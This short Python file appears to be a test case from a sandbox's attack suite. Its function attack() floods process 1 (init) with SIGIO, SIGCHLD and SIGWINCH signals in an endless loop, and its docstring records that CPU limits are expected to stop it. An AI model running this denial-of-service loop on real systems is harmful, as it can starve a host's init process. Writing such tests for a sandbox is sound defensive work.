"""Sends process 1 the signals for which it has handlers, as fast as it can, so that it comes to nothing else.

aim: harm
ends: timeout_cpu
stopped by: the handlers are a few instructions; whoever sends computes as long, and that is limited
"""

import os
import signal


def attack(x):
    numbers = (signal.SIGIO, signal.SIGCHLD, signal.SIGWINCH)
    while True:
        for number in numbers:
            os.kill(1, number)
